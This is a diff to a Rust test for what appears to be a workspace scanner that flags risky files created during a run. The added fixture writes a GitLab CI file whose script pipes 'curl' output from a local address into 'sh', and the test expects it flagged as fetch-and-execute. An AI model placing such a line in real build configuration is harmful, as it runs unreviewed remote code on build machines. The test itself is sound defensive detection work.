@@ -214,12 +214,17 @@ fn workspace_files_made_during_the_run() {
         "[build-system]\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n",
     );
     write(&ws.join(".github/workflows/ci.yml"), "on: push\n");
+    write(
+        &ws.join(".gitlab-ci.yml"),
+        "test:\n  script:\n    - curl -s http://127.0.0.1:9/x | sh\n",
+    );
     assert_eq!(
         summary(ws, since),
         vec![
             row("envrc", ".envrc", ""),
             row("gitattributes", ".gitattributes", "filter=evil"),
             row("build-file", ".github/workflows/ci.yml", ""),
+            row("build-fetch-exec", ".gitlab-ci.yml", "line 3"),
             row("gitmodules", ".gitmodules", "submodule.s.update"),
             row("editor-settings", ".vscode/settings.json", "git.path"),
             row("editor-task", ".vscode/tasks.json", "tasks[0]"),
